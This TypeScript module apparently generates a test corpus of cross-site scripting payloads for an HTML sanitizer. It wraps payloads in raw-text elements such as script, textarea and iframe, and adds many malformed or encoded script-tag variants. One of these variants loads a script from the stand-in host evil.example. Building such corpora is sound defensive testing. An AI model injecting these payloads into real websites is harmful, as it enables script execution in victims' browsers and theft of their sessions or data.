import { PAYLOADS, RUN, combine } from './payloads.ts';

const RAW = (
  'script style textarea title xmp noembed noframes noscript iframe plaintext template select ' +
  'option listing comment nextid'
).split(' ');

/** Shapes with an element whose content is raw text: inside, after, around, unclosed, closed in odd ways. */
const SHAPES = [
  '<R>@</R>',
  '<R><p title="</R>@">a</p></R>',
  '<R><a title="</R>@"></R>',
  '</R>@<R>',
  '<R/>@',
  '<R><!--</R>@-->',
  '<R></R\t/ a="@">@',
  '<R></R@',
  '<R class=align-center>@',
  '<p><R></p>@</R></p>',
  '<svg><R>@</R></svg>',
  '<math><mtext><R>@</R></mtext></math>',
  '<R><R>@</R></R>',
  '<div title="</R>"><R title=@>@</R></div>',
];

const ODD_SCRIPTS = [
  `<script src=//evil.example/a.js></script>`,
  `<script src=data:,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<script/xss>${RUN}</script\t\n>`,
  `<script>${RUN}//`,
  `<script>${RUN}<!--`,
  `<script><!--<script>${RUN}</script>--></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<<script>script>${RUN}</script>`,
  `<script\x0b>${RUN}</script>`,
  `<script\0>${RUN}</script>`,
  `<scr\0ipt>${RUN}</scr\0ipt>`,
  `<script >${RUN}</script >`,
  `<script a=">" src="data:,ran()"></script>`,
  `<script a="'>'" >${RUN}</script>`,
  `＜script＞${RUN}＜/script＞`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `<p>&lt;img src=x onerror=${RUN}&gt;</p>`,
  `<code>&lt;/code&gt;&lt;script&gt;${RUN}&lt;/script&gt;</code>`,
];

export function rawText(): string[] {
  const shaped = combine(RAW, SHAPES, PAYLOADS.slice(0, 4)).map(([tag, shape, payload]) =>
    shape!.replaceAll('R', tag!).replaceAll('@', () => payload!),
  );
  return [...shaped, ...ODD_SCRIPTS];
}
